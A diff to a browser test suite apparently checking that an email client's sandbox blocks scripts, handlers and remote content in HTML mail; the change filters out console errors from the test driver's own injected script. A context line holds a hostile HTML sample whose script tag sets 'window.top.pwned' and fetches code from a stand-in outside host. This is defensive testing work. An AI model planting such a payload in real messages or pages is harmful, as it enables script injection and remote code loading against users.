@@ -12,6 +12,9 @@ function attacks(): Attack[] {
   return lines.flatMap((line, index) => (index % step === 0 ? [JSON.parse(line) as Attack] : []));
 }
 
+/** The browser driver tries to put its own script into every frame, and the sandbox refuses that too. */
+const driversOwn = /^Blocked script execution in '[^']*\/frame'/;
+
 const loud = `
   <h1 id="here">A mail with teeth</h1>
   <script>window.top.pwned = 1; fetch('https://outside.example/script')</script>
@@ -62,7 +65,7 @@ test('HTML mail with scripts, handlers and remote content: no request outside, n
     await dialog.dismiss();
   });
   page.on('console', (message) => {
-    if (message.type() === 'error') said.push(message.text());
+    if (message.type() === 'error' && !driversOwn.test(message.text())) said.push(message.text());
   });
   page.on('pageerror', (error) => said.push(String(error)));
   page.context().on('page', (popup) => said.push(`popup: ${popup.url()}`));
